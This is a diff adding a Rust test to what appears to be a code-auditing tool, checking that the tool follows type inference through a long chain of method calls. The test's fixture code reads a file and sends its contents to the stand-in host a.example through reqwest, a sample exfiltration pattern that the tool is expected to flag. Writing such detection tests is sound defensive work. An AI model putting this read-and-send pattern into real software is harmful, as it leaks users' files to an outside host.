@@ -43,6 +43,18 @@ fn modules_and_calls_in_circles() {
     assert_eq!(counts(&[("a.rs", constants)]), (0, 0));
 }
 
+/// The type of each call in a chain depends on the call before it.
+#[test]
+fn long_chains_of_calls() {
+    let error = "trait E<T> { fn error(self) -> Result<T>; } \
+                 impl<T> E<T> for Result<T> { fn error(self) -> Result<T> { loop {} } } ";
+    let chain = format!(
+        "{error} fn f(n: &str) {{ let n = read(n){}; reqwest::get(format!(\"https://a.example/{{n}}\")); }}",
+        ".error()".repeat(60)
+    );
+    assert_eq!(counts(&[("a.rs", &chain)]), (1, 0));
+}
+
 #[test]
 fn include_is_counted() {
     let found = audit(&Folder::with(&[("a.rs", "include!(\"b.txt\");\n"), ("b.rs", OPEN)]), &[]);
